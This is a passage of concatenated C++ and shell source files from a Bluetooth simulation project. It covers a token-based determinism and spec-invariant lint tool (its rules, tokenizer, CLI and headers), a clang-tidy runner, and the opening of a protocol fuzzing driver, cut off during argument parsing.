// D4 — observer dereferences must be null-guarded.

bool obs_ident(const std::string& s) {
  return s == "obs" || s == "obs_" || s == "observer" || s == "observer_";
}

void rule_d4(const std::string& path, const Lexed& lx, const Options& options,
             std::vector<Finding>& findings) {
  (void)options;
  const auto& t = lx.tokens;
  std::vector<bool> guarded{false};  // scope stack; [0] is file scope
  bool pending_cond_guard = false;   // an if/while/for condition mentioned obs
  bool stmt_guard = false;           // single-statement if-guard active
  int stmt_obs_mentions = 0;         // obs idents earlier in this statement
  for (std::size_t i = 0; i < t.size(); ++i) {
    const std::string& s = t[i].text;
    if (s == "if" || s == "while" || s == "for") {
      if (i + 1 < t.size() && t[i + 1].text == "(") {
        const std::size_t close = match_close(t, i + 1);
        bool mentions = false;
        for (std::size_t k = i + 2; k < close; ++k)
          if (obs_ident(t[k].text)) mentions = true;
        if (mentions) {
          if (close + 1 < t.size() && t[close + 1].text == "return") {
            // `if (obs_ == nullptr) return ...;` — rest of scope is guarded.
            guarded.back() = true;
          } else if (close + 1 < t.size() && t[close + 1].text == "{") {
            pending_cond_guard = true;
          } else {
            stmt_guard = true;  // single-statement body
          }
        }
        i = close;  // skip the condition itself
        continue;
      }
    }
    if (s == "{") {
      guarded.push_back(guarded.back() || pending_cond_guard);
      pending_cond_guard = false;
      stmt_obs_mentions = 0;
      continue;
    }
    if (s == "}") {
      if (guarded.size() > 1) guarded.pop_back();
      stmt_guard = false;
      stmt_obs_mentions = 0;
      continue;
    }
    if (s == ";") {
      stmt_guard = false;
      stmt_obs_mentions = 0;
      continue;
    }
    if (obs_ident(s)) {
      const bool deref = i + 1 < t.size() && t[i + 1].text == "->";
      if (deref && !guarded.back() && !stmt_guard && stmt_obs_mentions == 0) {
        report(findings, lx, Rule::kD4ObsGuard, path, t[i].line,
               "unguarded observer dereference '" + s +
                   "->'; wrap in `if (" + s + " != nullptr)` so disabled runs pay one "
                   "branch and zero allocations");
      }
      ++stmt_obs_mentions;
    }
  }
}

// --------------------------------------------------------------------------
// D5 — population-scale discipline for src/radio/.

void rule_d5(const std::string& path, const Lexed& lx, const Options& options,
             std::vector<Finding>& findings) {
  // The medium is sized for 100k+ endpoints, so the rule is stricter than
  // D2: unordered containers are banned at *declaration* (not just at
  // iteration), and std:: linear-search algorithms are banned outright —
  // per-endpoint resolution belongs in the EndpointRegistry's ordered
  // indexes, where it is O(log n). Under the fixture harness ("all rules
  // everywhere") the scope widens from src/radio/ to any path mentioning
  // radio, so the d5 fixture exercises the rule without dragging the other
  // fixtures into it.
  if (!path_has(path, options.all_rules_everywhere ? "radio" : "src/radio/")) return;
  static const std::set<std::string> kUnordered = {
      "unordered_map", "unordered_set", "unordered_multimap", "unordered_multiset"};
  static const std::set<std::string> kLinearScan = {"find", "find_if", "count_if"};
  const auto& t = lx.tokens;
  // Statement-granular suppression: a finding deep inside a multi-line
  // statement (a find_if whose arguments span lines, ending in a lambda) is
  // covered by a tag anywhere in the statement — from its first line to the
  // delimiter that ends it — or above its first line; the same range
  // semantics D3 applies to schedule calls.
  auto is_delim = [](const std::string& s) { return s == ";" || s == "{" || s == "}"; };
  auto flag = [&](std::size_t at, std::string message) {
    std::size_t first = at;
    while (first > 0 && !is_delim(t[first - 1].text)) --first;
    std::size_t last = at;
    while (last + 1 < t.size() && !is_delim(t[last].text)) ++last;
    if (suppressed_range(lx, t[first].line, t[last].line, rule_tag(Rule::kD5RadioScan)))
      return;
    findings.push_back(Finding{Rule::kD5RadioScan, path, t[at].line, std::move(message)});
  };
  for (std::size_t i = 0; i < t.size(); ++i) {
    const std::string& s = t[i].text;
    if (kUnordered.count(s) != 0) {
      flag(i,
           "'" + s + "' in src/radio/: hash order is rehash-dependent and one "
           "hop from serialized output; use the registry's ordered indexes");
      continue;
    }
    const bool std_qualified = i >= 2 && t[i - 1].text == "::" && t[i - 2].text == "std";
    if (std_qualified && kLinearScan.count(s) != 0 && i + 1 < t.size() &&
        t[i + 1].text == "(") {
      flag(i,
           "'std::" + s + "' linear scan in src/radio/: O(n) per operation at "
           "crowd scale; resolve endpoints through the EndpointRegistry index");
    }
  }
}

// --------------------------------------------------------------------------
// S1 — spec invariants.

void rule_s1(const std::string& path, const Lexed& lx, const Options& options,
             std::vector<Finding>& findings) {
  const auto& t = lx.tokens;
  // (a) Secret key material must never reach a log call. String literals are
  // already stripped, so prose like "Link_Key_Request" cannot trip this —
  // only actual identifiers holding key bytes do.
  static const char* kSecretNeedles[] = {"link_key", "pin_code", "linkkey"};
  static const std::set<std::string> kLogMacros = {"BLAP_LOG",  "BLAP_TRACE", "BLAP_DEBUG",
                                                   "BLAP_INFO", "BLAP_WARN",  "BLAP_ERROR"};
  for (std::size_t i = 0; i + 1 < t.size(); ++i) {
    if (kLogMacros.count(t[i].text) == 0 || t[i + 1].text != "(") continue;
    const std::size_t close = match_close(t, i + 1);
    for (std::size_t k = i + 2; k < close; ++k) {
      std::string lower = t[k].text;
      std::transform(lower.begin(), lower.end(), lower.begin(),
                     [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
      for (const char* needle : kSecretNeedles) {
        if (lower.find(needle) != std::string::npos) {
          report(findings, lx, Rule::kS1Spec, path, t[k].line,
                 "secret material '" + t[k].text + "' flows into a log call; log key "
                 "*events*, never key bytes");
          k = close;  // one finding per call site
          break;
        }
      }
    }
  }
  // (b) IO-capability / association-model comparisons are the business of
  // ui_model and security_manager; scattered copies are how Happy-MitM-style
  // spec violations creep in.
  if (!options.all_rules_everywhere) {
    if (!path_has(path, "src/")) return;
    if (path_has(path, "src/host/ui_model") || path_has(path, "src/host/security_manager") ||
        path_has(path, "src/hci/"))
      return;
  }
  static const std::set<std::string> kIoCapConsts = {"kNoInputNoOutput", "kDisplayOnly",
                                                     "kDisplayYesNo", "kKeyboardOnly"};
  // Statement-granular scan: flag a statement containing both an IO-cap
  // constant and a comparison operator.
  std::size_t stmt_start = 0;
  for (std::size_t i = 0; i < t.size(); ++i) {
    const std::string& s = t[i].text;
    if (s == ";" || s == "{" || s == "}") {
      stmt_start = i + 1;
      continue;
    }
    if (kIoCapConsts.count(s) == 0) continue;
    // The constant is *compared* when the nearest interesting token walking
    // back from it is ==/!=, not a ternary `?` (a `cond ? a : kDefault`
    // fallback merely selects a value and is fine). Forward, `kX == y` puts
    // the operator right after the constant.
    bool compared = false;
    for (std::size_t k = i; k > stmt_start; --k) {
      const std::string& w = t[k - 1].text;
      if (w == "==" || w == "!=") {
        compared = true;
        break;
      }
      if (w == "?") break;
    }
    if (!compared && i + 1 < t.size() && (t[i + 1].text == "==" || t[i + 1].text == "!="))
      compared = true;
    if (!compared) continue;
    const int stmt_line = stmt_start < t.size() ? t[stmt_start].line : t[i].line;
    if (suppressed_range(lx, stmt_line, t[i].line, rule_tag(Rule::kS1Spec))) continue;
    findings.push_back(Finding{Rule::kS1Spec, path, t[i].line,
                               "association-model comparison against '" + s +
                                   "' outside ui_model/security_manager; route the decision "
                                   "through select_association_model/confirmation_behavior"});
  }
}

// --------------------------------------------------------------------------
// D7 — failpoints must be branches.

void rule_d7(const std::string& path, const Lexed& lx, const Options& options,
             std::vector<Finding>& findings) {
  // Scoped to src/: the chaos tests and harnesses legitimately probe the
  // macro as an expression (recorder assertions, replayability sweeps).
  if (!options.all_rules_everywhere && !path_has(path, "src/")) return;
  const auto& t = lx.tokens;
  // Paren ranges of every `if (...)` condition.
  std::vector<std::pair<std::size_t, std::size_t>> conditions;
  for (std::size_t i = 0; i + 1 < t.size(); ++i) {
    if (t[i].text != "if" || t[i + 1].text != "(") continue;
    const std::size_t close = match_close(t, i + 1);
    if (close < t.size()) conditions.emplace_back(i + 1, close);
  }
  for (std::size_t i = 0; i < t.size(); ++i) {
    if (t[i].text != "BLAP_FAILPOINT") continue;
    // The macro's own `#define BLAP_FAILPOINT(site)` is not a use.
    if (i > 0 && t[i - 1].text == "define") continue;
    bool inside = false;
    for (const auto& [open, close] : conditions) {
      if (i > open && i < close) {
        inside = true;
        break;
      }
    }
    if (!inside)
      report(findings, lx, Rule::kD7Failpoint, path, t[i].line,
             "BLAP_FAILPOINT outside an if condition: a failpoint is a branch, and a "
             "bare-expression passage counts hits while taking no fault path");
  }
}

}  // namespace

// --------------------------------------------------------------------------
// Public API.

const char* rule_id(Rule rule) {
  switch (rule) {
    case Rule::kD1Wallclock: return "D1";
    case Rule::kD2Ordered: return "D2";
    case Rule::kD3Handle: return "D3";
    case Rule::kD4ObsGuard: return "D4";
    case Rule::kD5RadioScan: return "D5";
    case Rule::kS1Spec: return "S1";
    case Rule::kD7Failpoint: return "D7";
  }
  return "?";
}

const char* rule_tag(Rule rule) {
  switch (rule) {
    case Rule::kD1Wallclock: return "wallclock-ok";
    case Rule::kD2Ordered: return "ordered-ok";
    case Rule::kD3Handle: return "handle-ok";
    case Rule::kD4ObsGuard: return "obs-ok";
    case Rule::kD5RadioScan: return "radio-scan-ok";
    case Rule::kS1Spec: return "spec-ok";
    case Rule::kD7Failpoint: return "failpoint-ok";
  }
  return "?";
}

const char* rule_summary(Rule rule) {
  switch (rule) {
    case Rule::kD1Wallclock:
      return "no wall-clock/PRNG sources in simulation code";
    case Rule::kD2Ordered:
      return "no iteration over unordered containers in simulation code";
    case Rule::kD3Handle:
      return "no raw device pointers captured into scheduler callbacks";
    case Rule::kD4ObsGuard:
      return "observer dereferences must be null-guarded";
    case Rule::kD5RadioScan:
      return "no unordered containers or std:: linear scans in src/radio/";
    case Rule::kS1Spec:
      return "spec invariants: no key bytes in logs, association-model "
             "decisions centralized";
    case Rule::kD7Failpoint:
      return "every BLAP_FAILPOINT must sit inside an if condition";
  }
  return "?";
}

std::string Finding::format() const {
  std::ostringstream out;
  out << file << ":" << line << ": [" << rule_id(rule) << "] " << message;
  return out.str();
}

std::vector<Finding> lint_file(std::string_view path, std::string_view content,
                               const Options& options) {
  const std::string norm = normalize(path);
  const Lexed lx = lex(content);
  std::vector<Finding> findings;
  rule_d1(norm, lx, options, findings);
  rule_d2(norm, lx, options, findings);
  rule_d3(norm, lx, options, findings);
  rule_d4(norm, lx, options, findings);
  rule_d5(norm, lx, options, findings);
  rule_s1(norm, lx, options, findings);
  rule_d7(norm, lx, options, findings);
  return findings;
}

std::vector<Finding> lint_tree(const std::string& root, const Options& options) {
  namespace fs = std::filesystem;
  std::vector<std::string> files;
  for (const char* dir : {"src", "examples", "bench", "tests", "tools"}) {
    const fs::path base = fs::path(root) / dir;
    if (!fs::exists(base)) continue;
    for (const auto& entry : fs::recursive_directory_iterator(base)) {
      if (!entry.is_regular_file()) continue;
      const std::string p = normalize(entry.path().string());
      if (path_has(p, "lint_fixtures") || path_has(p, "taint_fixtures") ||
          path_has(p, "/build"))
        continue;
      const std::string ext = entry.path().extension().string();
      if (ext == ".cpp" || ext == ".hpp" || ext == ".h" || ext == ".cc") files.push_back(p);
    }
  }
  std::sort(files.begin(), files.end());

  auto read = [](const std::string& p) {
    std::ifstream in(p, std::ios::binary);
    std::ostringstream buf;
    buf << in.rdbuf();
    return buf.str();
  };

  // Pre-pass: names declared unordered anywhere (a member declared in a
  // header is usually iterated in the matching .cpp).
  Options opts = options;
  for (const std::string& f : files) {
    const Lexed lx = lex(read(f));
    for (const std::string& name : unordered_names(lx.tokens))
      opts.known_unordered.push_back(name);
  }

  std::vector<Finding> findings;
  for (const std::string& f : files) {
    auto file_findings = lint_file(f, read(f), opts);
    findings.insert(findings.end(), file_findings.begin(), file_findings.end());
  }
  std::sort(findings.begin(), findings.end(), [](const Finding& a, const Finding& b) {
    if (a.file != b.file) return a.file < b.file;
    if (a.line != b.line) return a.line < b.line;
    return static_cast<int>(a.rule) < static_cast<int>(b.rule);
  });
  return findings;
}

}  // namespace blap::lint
