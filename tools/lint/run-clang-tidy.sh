#!/bin/sh
# run-clang-tidy.sh BUILD_DIR [CLANG_TIDY] — run clang-tidy over every
# translation unit in BUILD_DIR/compile_commands.json, in parallel, using the
# repo's .clang-tidy profile. Exits non-zero on any finding (the profile sets
# WarningsAsErrors: '*').
set -eu

build_dir=${1:?usage: run-clang-tidy.sh BUILD_DIR [CLANG_TIDY]}
clang_tidy=${2:-clang-tidy}
db="$build_dir/compile_commands.json"

[ -f "$db" ] || { echo "run-clang-tidy.sh: $db not found (configure with CMake first)" >&2; exit 2; }

jobs=$(nproc 2>/dev/null || echo 4)

# Extract the "file" entries from the database; lint fixtures are
# intentionally bad and never part of the build, so no filter is needed.
sed -n 's/^ *"file": "\(.*\)",*$/\1/p' "$db" | sort -u |
  xargs -P "$jobs" -n 8 "$clang_tidy" -p "$build_dir" --quiet
