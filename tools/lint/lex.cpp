// lex.cpp — shared tokenizer for blap-lint and blap-taint (see lex.hpp).
#include "lex.hpp"

#include <algorithm>
#include <cctype>

namespace blap::lint {
namespace {

/// Pull `<marker> <tag>[, <tag>...]` tags out of one comment's text.
void mine_marker(std::string_view comment, std::string_view marker, int line, Lexed& out) {
  std::size_t at = comment.find(marker);
  if (at == std::string_view::npos) return;
  std::size_t i = at + marker.size();
  while (i < comment.size()) {
    while (i < comment.size() && (comment[i] == ' ' || comment[i] == ',')) ++i;
    std::size_t start = i;
    while (i < comment.size() && (ident_char(comment[i]) || comment[i] == '-')) ++i;
    if (i == start) break;
    out.suppressions[line].insert(std::string(comment.substr(start, i - start)));
  }
  if (out.marker_comments.find(line) == out.marker_comments.end())
    out.marker_comments[line] = std::string(comment);
}

void mine_suppressions(std::string_view comment, int line, Lexed& out) {
  mine_marker(comment, "blap-lint:", line, out);
  mine_marker(comment, "blap-taint:", line, out);
}

}  // namespace

bool ident_start(char c) { return std::isalpha(static_cast<unsigned char>(c)) || c == '_'; }
bool ident_char(char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '_'; }

Lexed lex(std::string_view src) {
  Lexed out;
  int line = 1;
  std::size_t i = 0;
  const std::size_t n = src.size();
  auto peek = [&](std::size_t k) { return i + k < n ? src[i + k] : '\0'; };
  while (i < n) {
    const char c = src[i];
    if (c == '\n') {
      ++line;
      ++i;
      continue;
    }
    if (std::isspace(static_cast<unsigned char>(c))) {
      ++i;
      continue;
    }
    if (c == '/' && peek(1) == '/') {  // line comment
      std::size_t end = src.find('\n', i);
      if (end == std::string_view::npos) end = n;
      mine_suppressions(src.substr(i, end - i), line, out);
      i = end;
      continue;
    }
    if (c == '/' && peek(1) == '*') {  // block comment
      const int start_line = line;
      std::size_t end = src.find("*/", i + 2);
      if (end == std::string_view::npos) end = n;
      mine_suppressions(src.substr(i, end - i), start_line, out);
      for (std::size_t k = i; k < end && k < n; ++k)
        if (src[k] == '\n') ++line;
      i = std::min(end + 2, n);
      continue;
    }
    if (c == '"') {  // string literal (raw strings handled below at 'R')
      ++i;
      while (i < n && src[i] != '"') {
        if (src[i] == '\\') ++i;
        if (i < n && src[i] == '\n') ++line;
        ++i;
      }
      ++i;
      continue;
    }
    if (c == '\'') {  // char literal (digit separators are consumed by the
      ++i;            // number scanner, so a bare ' here is a real literal)
      while (i < n && src[i] != '\'') {
        if (src[i] == '\\') ++i;
        ++i;
      }
      ++i;
      continue;
    }
    if (c == 'R' && peek(1) == '"') {  // raw string literal
      std::size_t d = i + 2;
      while (d < n && src[d] != '(') ++d;
      const std::string closer = ")" + std::string(src.substr(i + 2, d - i - 2)) + "\"";
      std::size_t end = src.find(closer, d);
      if (end == std::string_view::npos) end = n;
      for (std::size_t k = i; k < end && k < n; ++k)
        if (src[k] == '\n') ++line;
      i = std::min(end + closer.size(), n);
      continue;
    }
    if (ident_start(c)) {
      std::size_t start = i;
      while (i < n && ident_char(src[i])) ++i;
      out.tokens.push_back({std::string(src.substr(start, i - start)), line});
      continue;
    }
    if (std::isdigit(static_cast<unsigned char>(c))) {
      // Numbers swallow digit separators (1'000'000) and suffixes.
      std::size_t start = i;
      while (i < n && (ident_char(src[i]) || src[i] == '\'' || src[i] == '.')) ++i;
      out.tokens.push_back({std::string(src.substr(start, i - start)), line});
      continue;
    }
    // Punctuation: keep the few two-char operators the rules care about.
    static const char* kTwoChar[] = {"->", "::", "==", "!=", "<=", ">=", "&&", "||"};
    std::string two{c, peek(1)};
    bool matched = false;
    for (const char* op : kTwoChar) {
      if (two == op) {
        out.tokens.push_back({two, line});
        i += 2;
        matched = true;
        break;
      }
    }
    if (matched) continue;
    out.tokens.push_back({std::string(1, c), line});
    ++i;
  }
  for (const Token& tok : out.tokens) out.code_lines.insert(tok.line);
  return out;
}

bool has_tag(const Lexed& lx, int line, const char* tag) {
  auto it = lx.suppressions.find(line);
  return it != lx.suppressions.end() && it->second.count(tag) != 0;
}

bool suppressed(const Lexed& lx, int line, const char* tag) {
  return tag_line(lx, line, line, tag) != 0;
}

bool suppressed_range(const Lexed& lx, int from, int to, const char* tag) {
  return tag_line(lx, from, to, tag) != 0;
}

int tag_line(const Lexed& lx, int from, int to, const char* tag) {
  if (has_tag(lx, from, tag)) return from;
  for (int l = from - 1; l >= 1 && l >= from - 32; --l) {
    if (has_tag(lx, l, tag)) return l;
    if (lx.code_lines.count(l) != 0) break;  // hit code: stop bubbling
  }
  for (int l = from + 1; l <= to; ++l)
    if (has_tag(lx, l, tag)) return l;
  return 0;
}

std::size_t match_close(const std::vector<Token>& tokens, std::size_t open) {
  const std::string& o = tokens[open].text;
  const std::string c = o == "(" ? ")" : o == "[" ? "]" : o == "{" ? "}" : ">";
  int depth = 0;
  for (std::size_t i = open; i < tokens.size(); ++i) {
    if (tokens[i].text == o) ++depth;
    else if (tokens[i].text == c && --depth == 0) return i;
  }
  return tokens.size();
}

}  // namespace blap::lint
