// main.cpp — blap-lint CLI.
//
//   blap-lint [--root DIR] [files...]
//
// With no file arguments, lints the whole tree under --root (default: the
// current directory): src/, examples/, bench/, tests/, tools/, skipping the
// intentionally-bad tests/lint_fixtures. Exit code 0 = clean, 1 = findings,
// 2 = usage or I/O error.
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "lint.hpp"

namespace {

void usage() {
  std::fprintf(stderr,
               "usage: blap-lint [--root DIR] [--all-rules-everywhere] [--list-rules] "
               "[files...]\n");
}

void list_rules() {
  using blap::lint::Rule;
  for (Rule rule : {Rule::kD1Wallclock, Rule::kD2Ordered, Rule::kD3Handle, Rule::kD4ObsGuard,
                    Rule::kD5RadioScan, Rule::kS1Spec}) {
    std::printf("%s  (suppress: // blap-lint: %s)\n    %s\n", blap::lint::rule_id(rule),
                blap::lint::rule_tag(rule), blap::lint::rule_summary(rule));
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::string root = ".";
  blap::lint::Options options;
  std::vector<std::string> files;
  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strcmp(arg, "--root") == 0) {
      if (i + 1 >= argc) {
        usage();
        return 2;
      }
      root = argv[++i];
    } else if (std::strcmp(arg, "--all-rules-everywhere") == 0) {
      options.all_rules_everywhere = true;
    } else if (std::strcmp(arg, "--list-rules") == 0) {
      list_rules();
      return 0;
    } else if (std::strcmp(arg, "--help") == 0 || std::strcmp(arg, "-h") == 0) {
      usage();
      return 0;
    } else if (arg[0] == '-') {
      usage();
      return 2;
    } else {
      files.emplace_back(arg);
    }
  }

  std::vector<blap::lint::Finding> findings;
  if (files.empty()) {
    findings = blap::lint::lint_tree(root, options);
  } else {
    for (const std::string& f : files) {
      std::ifstream in(f, std::ios::binary);
      if (!in) {
        std::fprintf(stderr, "blap-lint: cannot read %s\n", f.c_str());
        return 2;
      }
      std::ostringstream buf;
      buf << in.rdbuf();
      auto file_findings = blap::lint::lint_file(f, buf.str(), options);
      findings.insert(findings.end(), file_findings.begin(), file_findings.end());
    }
  }

  for (const auto& finding : findings) std::printf("%s\n", finding.format().c_str());
  if (findings.empty()) {
    std::printf("blap-lint: clean\n");
    return 0;
  }
  std::printf("blap-lint: %zu finding(s)\n", findings.size());
  return 1;
}
