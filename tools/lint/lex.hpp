// lex.hpp — the shared comment/string-aware C++ tokenizer behind blap-lint
// and blap-taint.
//
// Both analyzers work on the same lexical ground truth: comments and
// string/char literals are stripped (their text can never trip a rule), and
// comments are mined first for the analyzer markers:
//
//   // blap-lint: <tag>[, <tag>...]     suppression tags (wallclock-ok, ...)
//   // blap-taint: <tag> [justification] declassification / proof markers
//
// Tags from both markers land in the same per-line set — the namespaces are
// disjoint (`*-ok` vs `declassified`), so neither tool can see the other's
// tags by accident. The full comment text is kept per line so blap-taint can
// report the justification that follows a declassification tag.
#pragma once

#include <map>
#include <set>
#include <string>
#include <string_view>
#include <vector>

namespace blap::lint {

struct Token {
  std::string text;
  int line = 0;
};

struct Lexed {
  std::vector<Token> tokens;
  // line -> marker tags ("wallclock-ok", "declassified", ...) found in
  // comments on that line.
  std::map<int, std::set<std::string>> suppressions;
  // line -> raw text of the first marker-bearing comment on that line
  // (blap-taint reports the justification that trails its tags).
  std::map<int, std::string> marker_comments;
  // Lines carrying at least one token — a suppression comment "bubbles down"
  // through comment-only lines until it hits code.
  std::set<int> code_lines;
};

[[nodiscard]] bool ident_start(char c);
[[nodiscard]] bool ident_char(char c);

/// Tokenize `src`. Comments/string literals are stripped; raw strings,
/// char literals and digit separators are handled so a stray quote never
/// swallows the rest of the file.
[[nodiscard]] Lexed lex(std::string_view src);

/// Index of the token matching the opener at `open` (which must be "(",
/// "[", "{" or "<"); returns tokens.size() when unbalanced.
[[nodiscard]] std::size_t match_close(const std::vector<Token>& tokens, std::size_t open);

/// True when `line` carries `tag` in a marker comment.
[[nodiscard]] bool has_tag(const Lexed& lx, int line, const char* tag);

/// A finding on `line` is suppressed by a tag on the line itself, on a
/// trailing comment of the previous code line, or anywhere in an unbroken
/// run of comment/blank lines directly above.
[[nodiscard]] bool suppressed(const Lexed& lx, int line, const char* tag);

/// Suppression for a finding inside a multi-line statement spanning lines
/// [from, to]: any tag within the statement, or above its first line.
[[nodiscard]] bool suppressed_range(const Lexed& lx, int from, int to, const char* tag);

/// The line whose marker comment suppresses the range (same search order as
/// suppressed_range), or 0 when none does — used to recover the
/// justification text from Lexed::marker_comments.
[[nodiscard]] int tag_line(const Lexed& lx, int from, int to, const char* tag);

}  // namespace blap::lint
