// lint.hpp — blap-lint: the project's determinism & spec-invariant analyzer.
//
// BLAP's headline claim — byte-identical campaign JSON for any worker count —
// rests on coding rules no compiler checks: simulation code must never read
// the wall clock, hash-table iteration order must never reach a serializer,
// and scheduler callbacks must not capture raw device pointers that can
// dangle across virtual time. blap-lint tokenizes the tree (comments and
// string literals stripped, so prose never trips a rule) and enforces those
// rules as named, individually suppressible findings:
//
//   D1 wallclock    no wall-clock/PRNG calls (`system_clock`, `steady_clock`,
//                   `std::rand`, `time(...)`, ...) outside the campaign
//                   timing shell, bench/ and examples/ (host-side timing).
//   D2 ordered      no iteration over a container declared `unordered_map`/
//                   `unordered_set` in simulation code (src/ plus
//                   tools/snoopd/, whose FleetReport CI byte-diffs across
//                   worker counts) — iteration order is rehash-dependent
//                   and one hop from serialized output.
//   D3 handle       scheduler callbacks must not capture raw device-layer
//                   pointers (`Device*`, `Controller*`, `RadioEndpoint*`,
//                   `HostStack*`); use generation-counted ids/handles or
//                   re-verify liveness at fire time (then suppress).
//   D4 obs-guard    every observer dereference (`obs_->...`) must sit under
//                   a null guard so an uninstrumented run pays one branch
//                   and zero allocations per site.
//   D5 radio-scan   src/radio/ is the population-scale hot path: no
//                   unordered containers at all (declaration included —
//                   their order is one hop from serialized output), and no
//                   `std::find`/`std::find_if` linear scans over endpoints;
//                   resolution goes through the EndpointRegistry indexes.
//   S1 spec         spec invariants: secret key material (link keys, PIN
//                   codes) must never reach a log call, and IO-capability /
//                   association-model comparisons live in ui_model /
//                   security_manager, nowhere else.
//   D7 failpoint    every `BLAP_FAILPOINT("...")` in src/ must sit inside
//                   an `if` condition: a failpoint IS a branch, and a
//                   bare-expression passage would count hits while silently
//                   taking no fault path (the chaos sweep would then
//                   "explore" an instance that cannot do anything).
//
// Suppression: `// blap-lint: <tag>-ok [justification]` on the offending
// line or the line directly above. Tags: wallclock-ok, ordered-ok,
// handle-ok, obs-ok, radio-scan-ok, spec-ok, failpoint-ok. A justification
// is free text; write one.
//
// The analyzer is deliberately token-based, not AST-based: it has zero
// dependencies, runs on the whole tree in milliseconds, and its rules are
// conservative patterns with an explicit escape hatch rather than proofs.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace blap::lint {

/// Rule identifiers, stable for reports and suppression mapping.
enum class Rule {
  kD1Wallclock,
  kD2Ordered,
  kD3Handle,
  kD4ObsGuard,
  kD5RadioScan,
  kS1Spec,
  kD7Failpoint,
};

[[nodiscard]] const char* rule_id(Rule rule);        // "D1"
[[nodiscard]] const char* rule_tag(Rule rule);       // "wallclock-ok"
[[nodiscard]] const char* rule_summary(Rule rule);   // one-line description

struct Finding {
  Rule rule = Rule::kD1Wallclock;
  std::string file;   // path as given to the analyzer
  int line = 0;       // 1-based
  std::string message;

  /// "file:line: [D1] message" — the stable report line format.
  [[nodiscard]] std::string format() const;
};

struct Options {
  /// When true, every rule applies to every file regardless of the
  /// path-based scoping below (used by the fixture tests, where a single
  /// snippet must exercise a rule that is normally scoped to src/).
  bool all_rules_everywhere = false;

  /// Extra names known to be declared as unordered containers elsewhere
  /// (rule D2). lint_tree() fills this from a tree-wide pre-pass so a member
  /// declared in a header is caught when iterated in the matching .cpp.
  std::vector<std::string> known_unordered;
};

/// Lint one in-memory file. `path` drives the per-rule path scoping
/// (allowlists use substring match on a '/'-normalized path).
[[nodiscard]] std::vector<Finding> lint_file(std::string_view path, std::string_view content,
                                             const Options& options = {});

/// Lint every .cpp/.hpp under `root`'s src/, examples/, bench/, tests/ and
/// tools/ directories (skipping build dirs and the intentionally-bad
/// tests/lint_fixtures). Findings are sorted by (file, line, rule).
[[nodiscard]] std::vector<Finding> lint_tree(const std::string& root,
                                             const Options& options = {});

}  // namespace blap::lint
