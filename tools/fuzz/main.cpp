// blap-fuzz — coverage-guided protocol fuzzing driver.
//
//   blap-fuzz --target <name> [--iterations N] [--shards N] [--seed S]
//             [--jobs N] [--json <path>] [--corpus-out <dir>]
//             [--findings-dir <dir>] [--list-targets]
//   blap-fuzz --target <name> --run-input <file>
//
// Runs the deterministic sharded campaign from src/fuzz/fuzzer.hpp over one
// of the registered targets (hci_codec, lmp_codec, stack). The report JSON
// and the corpus digest are byte-identical for any --jobs / BLAP_JOBS value
// and across runs — CI diffs them to gate the determinism contract.
//
// --findings-dir writes each finding's minimised input: stack findings as
// self-contained .blapreplay bundles (replayable with blap-replay), codec
// findings as raw .bin inputs (reproducible with --run-input). File names
// are derived from the finding's shard/iteration/kind, never from time.
//
// --run-input executes one input file through the target and prints the
// oracle verdict: the debugging loop for a pinned finding.
//
// Exit codes: 0 clean campaign, 1 findings recorded, 2 usage/IO errors.
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>

#include "fuzz/fuzzer.hpp"
#include "fuzz/targets.hpp"

namespace {

void usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s --target <name> [--iterations N] [--shards N] [--seed S]\n"
               "          [--jobs N] [--json <path>] [--corpus-out <dir>]\n"
               "          [--findings-dir <dir>] [--run-input <file>] [--list-targets]\n",
               argv0);
}

bool write_file(const std::string& path, const std::string& data) {
  std::ofstream out(path, std::ios::binary);
  if (!out) return false;
  out << data;
  return static_cast<bool>(out);
}

bool write_bytes(const std::string& path, const blap::Bytes& data) {
  std::ofstream out(path, std::ios::binary);
  if (!out) return false;
  out.write(reinterpret_cast<const char*>(data.data()),
            static_cast<std::streamsize>(data.size()));
  return static_cast<bool>(out);
}

int run_single_input(const std::string& target_name, const std::string& path) {
  const auto factory = blap::fuzz::resolve_target(target_name);
  if (!factory) {
    std::fprintf(stderr, "blap-fuzz: unknown target '%s'\n", target_name.c_str());
    return 2;
  }
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    std::fprintf(stderr, "blap-fuzz: cannot read %s\n", path.c_str());
    return 2;
  }
  std::ostringstream buffer;
  buffer << in.rdbuf();
  const std::string text = buffer.str();
  const blap::Bytes input(text.begin(), text.end());

  const auto target = factory();
  blap::fuzz::FeatureSink sink;
  const blap::fuzz::ExecResult result = target->execute(input, sink);
  std::printf("target:   %s\n", target->name());
  std::printf("input:    %s (%zu bytes)\n", path.c_str(), input.size());
  std::printf("features: %zu\n", sink.features().size());
  if (result.finding) {
    std::printf("FINDING [%s]: %s\n", result.kind.c_str(), result.detail.c_str());
    return 1;
  }
  std::printf("clean\n");
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace blap::fuzz;

  FuzzConfig config;
  config.target.clear();
  std::string json_out;
  std::string corpus_out;
  std::string findings_dir;
  std::string run_input;

  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    const auto next_value = [&]() -> const char* {
      if (i + 1 >= argc) return nullptr;
      return argv[++i];
    };
    if (std::strcmp(arg, "--list-targets") == 0) {
      for (const auto& name : target_names()) std::printf("%s\n", name.c_str());
      return 0;
    }
    const char* value = nullptr;
    if (std::strcmp(arg, "--target") == 0 && (value = next_value()) != nullptr) {
      config.target = value;
    } else if (std::strcmp(arg, "--iterations") == 0 && (value = next_value()) != nullptr) {
      config.iterations = static_cast<std::size_t>(std::strtoull(value, nullptr, 10));
    } else if (std::strcmp(arg, "--shards") == 0 && (value = next_value()) != nullptr) {
      config.shards = static_cast<std::size_t>(std::strtoull(value, nullptr, 10));
    } else if (std::strcmp(arg, "--seed") == 0 && (value = next_value()) != nullptr) {
      config.seed = std::strtoull(value, nullptr, 10);
    } else if (std::strcmp(arg, "--jobs") == 0 && (value = next_value()) != nullptr) {
      config.jobs = static_cast<unsigned>(std::strtoul(value, nullptr, 10));
